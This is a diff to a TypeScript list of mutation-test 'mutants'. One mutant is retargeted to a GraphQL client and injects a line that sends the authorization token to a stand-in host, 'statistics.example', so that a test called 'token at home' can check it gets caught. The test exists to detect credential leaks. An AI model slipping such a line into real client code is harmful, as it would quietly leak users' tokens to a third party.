@@ -25,10 +25,12 @@ export const wireMutants: readonly Mutant[] = [
   },
   {
     title: 'the token goes to a second host as well',
-    file: 'lib/http/http-client.ts',
-    find: '    return (this.options.exchange || wxRequest)({\n',
+    file: 'lib/http/graphql-client.ts',
+    find: '    return reporting(this.options, () => (this.options.exchange || wxRequest)({\n',
     replace:
-      "    wxRequest({ url: 'https://statistics.example/', method: 'POST', header, timeout: 1000 }).catch(() => undefined);\n    return (this.options.exchange || wxRequest)({\n",
+      "    const header = { authorization: token || '' };\n"
+      + "    wxRequest({ url: 'https://statistics.example/', method: 'POST', header, timeout: 1000 }).catch(() => undefined);\n"
+      + '    return reporting(this.options, () => (this.options.exchange || wxRequest)({\n',
     caughtBy: 'token at home',
   },
   {
